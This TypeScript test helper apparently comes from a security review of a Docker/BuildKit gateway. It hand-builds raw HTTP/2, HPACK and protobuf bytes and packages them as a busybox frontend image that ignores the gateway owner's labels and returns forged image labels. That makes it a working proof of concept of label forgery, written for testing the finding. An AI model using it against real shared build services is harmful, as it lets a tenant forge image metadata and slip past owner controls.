/**
 * A BuildKit gateway frontend that ignores the options it is given (the gateway's owner labels
 * among them) and returns an image config with the labels it was made with: the review's
 * proof of concept (a frontend of a tenant's own, named by `# syntax=`), without Node. A
 * frontend speaks gRPC over HTTP/2 on its stdin and stdout with dockerd as the server; this one
 * is a busybox image whose entrypoint `cat`s a fixed client byte string (preface, SETTINGS,
 * one HEADERS and one DATA frame calling LLBBridge/Return with `containerimage.config` in the
 * result's metadata), then waits a moment for dockerd to read it before exiting. Made with
 * the classic builder on the daemon's socket: a second or two.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { run, type RunResult } from './gateway.js';
import { scratchDir } from './scratch.js';

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n > 127) {
    out.push((n & 127) | 128);
    n >>>= 7;
  }
  out.push(n);
  return Buffer.from(out);
}

/** A length-delimited protobuf field. */
function field(number: number, value: Buffer): Buffer {
  return Buffer.concat([varint((number << 3) | 2), varint(value.length), value]);
}

/** An HTTP/2 frame. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK string literal (no Huffman coding, under 127 bytes). */
function hpackString(s: string): Buffer {
  return Buffer.concat([Buffer.from([s.length]), Buffer.from(s)]);
}

/** The bytes the frontend writes: a call of LLBBridge/Return whose result's image config has `labels`. */
export function forgingRequest(labels: Record<string, string>): Buffer {
  const config = { architecture: 'amd64', os: 'linux', config: { Cmd: ['/bin/sh'], Labels: labels }, rootfs: { type: 'layers', diff_ids: [] }, history: [] };
  // ReturnRequest{ result: Result{ metadata: { "containerimage.config": <json> } } }
  const entry = Buffer.concat([field(1, Buffer.from('containerimage.config')), field(2, Buffer.from(JSON.stringify(config)))]);
  const message = field(1, field(10, entry));
  const grpc = Buffer.concat([Buffer.from([0]), Buffer.alloc(4), message]);
  grpc.writeUInt32BE(message.length, 1);
  const headers = Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    Buffer.from([0x04]), hpackString('/moby.buildkit.v1.frontend.LLBBridge/Return'),
    Buffer.from([0x01]), hpackString('localhost'),
    Buffer.from([0x0f, 0x10]), hpackString('application/grpc'), // content-type (static index 31)
    Buffer.from([0x00]), hpackString('te'), hpackString('trailers'),
  ]);
  return Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(4, 0, 0, Buffer.alloc(0)),
    frame(1, 0x4, 1, headers),
    frame(0, 0x1, 1, grpc),
  ]);
}

/** Build the frontend image `name` on the daemon's socket, returning `labels` for every build it runs. */
export async function buildForgingFrontend(socket: string, name: string, labels: Record<string, string>): Promise<RunResult> {
  const dir = scratchDir('forging-frontend-');
  writeFileSync(join(dir, 'req.bin'), forgingRequest(labels));
  writeFileSync(join(dir, 'Dockerfile'), [
    'FROM busybox',
    'COPY req.bin /fe/req.bin',
    'ENTRYPOINT ["/bin/sh", "-c", "cat /fe/req.bin; sleep 2"]',
    // Lets dockerd run the frontend without a bridge network (the test daemon has none).
    'LABEL moby.buildkit.frontend.network.none=true',
    '',
  ].join('\n'));
  return run('docker', ['-H', `unix://${socket}`, 'build', '-q', '-t', name, dir], { env: { ...process.env, DOCKER_BUILDKIT: '0' }, timeoutMs: 60_000 });
}
